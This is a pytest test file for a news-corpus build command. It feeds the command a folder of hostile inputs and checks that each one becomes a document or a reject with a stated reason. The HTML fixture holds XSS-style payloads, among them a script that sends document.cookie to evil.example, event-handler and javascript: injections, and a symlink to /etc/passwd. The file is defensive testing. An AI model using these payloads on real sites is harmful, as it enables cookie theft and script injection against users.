"""A raw folder of hostile files: the build finishes, every input is accounted for with a clear
reason, and no markup or script from HTML ever reaches the corpus text."""

from __future__ import annotations

import json
import os
import random
from pathlib import Path
from types import SimpleNamespace

import pytest

from newsclaims.corpus.versions import latest_version, load_documents, load_rejects, read_manifest

from .helpers import run_cli

SENTENCE = (
    "The regional council met on Monday to discuss the budget for the coming year, and members "
    "approved {n} new projects while rejecting a proposal to raise local taxes. "
)
SCRIPT_MARK = "STOLENCOOKIE"
ESCAPED_TAG = "<script> is how the article writes a tag as text."  # written as &lt;script&gt; in the page  # appears only inside scripts, handlers and styles of the HTML inputs


def article(n: int, sentences: int = 4) -> str:
    return "".join(SENTENCE.format(n=n + i) for i in range(sentences))


def hostile_html() -> str:
    return f"""<!doctype html><html><head><title>Council approves budget</title>
<script>document.location='https://evil.example/?c='+document.cookie+'{SCRIPT_MARK}'</script>
<style>body {{ background: url("javascript:{SCRIPT_MARK}") }}</style></head>
<body onload="alert('{SCRIPT_MARK}')"><article><h1>Council approves budget</h1>
<p onclick="steal('{SCRIPT_MARK}')">{article(1)}</p>
<p>{article(2)} <img src=x onerror="alert('{SCRIPT_MARK}')"><a href="javascript:alert('{SCRIPT_MARK}')">more</a></p>
<script type="text/javascript">var x = "{SCRIPT_MARK}";</script>
<noscript>{SCRIPT_MARK}</noscript><iframe srcdoc="<p>{SCRIPT_MARK}</p>"></iframe>
<p>{article(3)} &lt;script&gt; is how the article writes a tag as text.</p></article></body></html>"""


def nested_html(depth: int) -> str:
    return "<html><body>" + "<div>" * depth + f"<p>{article(7)}</p>" + "</div>" * depth + "</body></html>"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Builds one version from the hostile folder; returns (raw dir, versions dir, summary)."""
    base = tmp_path_factory.mktemp("hostile")
    raw, out = base / "raw", base / "versions"
    raw.mkdir()
    rng = random.Random(6)
    (raw / "empty.txt").write_bytes(b"")
    (raw / "binary.txt").write_bytes(bytes(rng.randrange(256) for _ in range(4096)))
    (raw / "nul.txt").write_bytes(article(10).encode() + b"\x00\x00" + article(11).encode())
    # One file mixing UTF-8, cp1252 and latin-1 bytes (as scraped pages sometimes are).
    (raw / "mixed.txt").write_bytes(
        article(12).encode()
        + "Café “quoted” — naïve".encode()
        + " Caf\xe9 \x93quoted\x94 na\xefve ".encode("latin-1")
        + article(13).encode()
    )
    (raw / "huge.txt").write_bytes(article(14).encode() * (50 * 1024 * 1024 // len(article(14).encode()) + 1))
    (raw / "one-line.txt").write_bytes((article(15, 1).strip() + " ").encode() * 60_000)
    (raw / "nested.html").write_text(nested_html(5000), encoding="utf-8")
    (raw / "scripts.html").write_text(hostile_html(), encoding="utf-8")
    (raw / "records.jsonl").write_bytes(
        b"\n".join(
            [
                json.dumps({"id": "ok", "text": article(20)}).encode(),
                b'{"id": "cut", "text": "half a li',  # broken line
                json.dumps({"id": 5, "text": ["a", "list"]}).encode(),  # wrong types
                json.dumps({"id": {"x": 1}, "text": 42}).encode(),
                json.dumps(["not", "an", "object"]).encode(),
                json.dumps({"id": "nul", "text": "a\x00b"}).encode(),
                json.dumps({"id": "null-text", "text": None, "title": 12}).encode(),
                b"\xff\xfe garbage bytes",
                json.dumps({"id": "html", "text": f"<p onclick=\"x('{SCRIPT_MARK}')\">{article(21)}</p>"}).encode(),
            ]
        )
        + b"\n"
    )
    outside = base / "outside-secret.txt"
    outside.write_text("TOP SECRET outside the raw folder " + article(30), encoding="utf-8")
    os.symlink(outside, raw / "link-out.txt")
    os.symlink("../outside-secret.txt", raw / "relative-link.txt")
    os.symlink("/etc/passwd", raw / "passwd.txt")
    (raw / "..hidden..txt").write_text(article(40), encoding="utf-8")
    (raw / "dots").mkdir()
    (raw / "dots" / "...txt").write_text(article(41), encoding="utf-8")
    (raw / "new\nline.txt").write_text(article(42), encoding="utf-8")
    (raw / "ctrl\x01\x1b[31m\x7f.txt").write_text(article(43), encoding="utf-8")
    (raw / "tab\tand\rcr.txt").write_text(article(44), encoding="utf-8")
    (raw / "ok.txt").write_text(article(50), encoding="utf-8")
    # Through the real command: a hostile folder must not produce a traceback either.
    proc = run_cli("corpus", "build", "--raw", str(raw), "--out", str(out))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stdout + proc.stderr
    return raw, out, SimpleNamespace(version=latest_version(out))


def on_disk(raw: Path) -> list[str]:
    return sorted(p.relative_to(raw).as_posix() for p in raw.rglob("*") if p.is_file() or p.is_symlink())


def test_every_hostile_input_is_a_document_or_a_reject(hostile):
    raw, out, summary = hostile
    manifest = read_manifest(summary.version, out)
    docs = list(load_documents(summary.version, out))
    rejects = load_rejects(summary.version, out)
    assert sorted(i["path"] for i in manifest["inputs"]) == on_disk(raw)
    per_file = {}
    for d in docs:
        per_file.setdefault(d.raw_path, []).append("document")
    for r in rejects:
        assert r["reason"] and r["detail"], r
        per_file.setdefault(r["raw_path"], []).append(r["reason"])
    for path in on_disk(raw):
        outcomes = per_file.get(path)
        assert outcomes, f"{path!r} is neither a document nor a reject"
        if not path.endswith(".jsonl"):
            assert len(outcomes) == 1, (path, outcomes)
    # .jsonl: one outcome per non-empty line.
    lines = [ln for ln in (raw / "records.jsonl").read_bytes().split(b"\n") if ln.strip()]
    assert len(per_file["records.jsonl"]) == len(lines)
    assert manifest["counts"]["documents"] + manifest["counts"]["rejects"] == sum(map(len, per_file.values()))


@pytest.mark.parametrize(
    "path,reason",
    [
        ("empty.txt", "empty"),
        ("binary.txt", "binary"),
        ("nul.txt", "nul_bytes"),
        ("huge.txt", "too_large"),
        ("link-out.txt", "symlink_outside_raw"),
        ("relative-link.txt", "symlink_outside_raw"),
        ("passwd.txt", "symlink_outside_raw"),
    ],
)
def test_hostile_files_are_rejected_with_their_reason(hostile, path, reason):
    raw, out, summary = hostile
    assert [r["reason"] for r in load_rejects(summary.version, out) if r["raw_path"] == path] == [reason]


def test_odd_names_long_lines_mixed_encodings_and_nesting_become_documents(hostile):
    raw, out, summary = hostile
    docs = {d.raw_path: d for d in load_documents(summary.version, out)}
    for path in (
        "..hidden..txt",
        "new\nline.txt",
        "ctrl\x01\x1b[31m\x7f.txt",
        "tab\tand\rcr.txt",
        "ok.txt",
        "mixed.txt",
        "one-line.txt",
    ):
        assert path in docs, (path, sorted(docs))
        assert docs[path].raw_path == path  # the name is kept as the file system spells it
    # Not lost, and neither half garbled: UTF-8 stays UTF-8, the stray cp1252 bytes become what they meant.
    assert "approved 12 new projects" in docs["mixed.txt"].text and "approved 13 new projects" in docs["mixed.txt"].text
    assert "Café “quoted” — naïve" in docs["mixed.txt"].text
    assert "Café “quoted” naïve" in docs["mixed.txt"].text
    one_line = (raw / "one-line.txt").read_text(encoding="utf-8").strip()
    assert len(one_line) > 9_500_000 and docs["one-line.txt"].text == one_line  # a 10 MB line, whole


def test_too_deep_html_and_dot_only_names_are_rejected_saying_why(hostile):
    raw, out, summary = hostile
    rejects = {r["raw_path"]: r for r in load_rejects(summary.version, out)}
    # libxml2 drops what is nested deeper than 255 levels: a reject that says so, not a silent loss.
    assert rejects["nested.html"]["reason"] == "no_main_text"
    assert "nest 5003 levels deep" in rejects["nested.html"]["detail"]
    # "...txt" has no extension as far as os.path.splitext is concerned.
    assert rejects["dots/...txt"]["reason"] == "unknown_extension"


def test_nothing_outside_the_raw_folder_is_read(hostile):
    raw, out, summary = hostile
    blob = (out / summary.version / "documents.jsonl").read_text(encoding="utf-8")
    assert "TOP SECRET" not in blob and "root:x:0:0" not in blob


def test_html_never_carries_markup_or_script_into_the_text(hostile):
    raw, out, summary = hostile
    docs = {d.raw_path: d for d in load_documents(summary.version, out)}
    page = docs["scripts.html"]
    assert "approved 1 new projects" in page.text and "approved 3 new projects" in page.text
    for d in docs.values():
        if d.raw_path.endswith(".html"):
            assert SCRIPT_MARK not in d.text, d.raw_path
            text = d.text.replace(ESCAPED_TAG, "")
            for needle in ("<p", "<script", "<img", "<a ", "onclick", "onerror", "javascript:", "<div", "</", "/>"):
                assert needle not in text, (d.raw_path, needle)
    # Escaped text is the article's own words, not markup: kept as text.
    assert ESCAPED_TAG in page.text
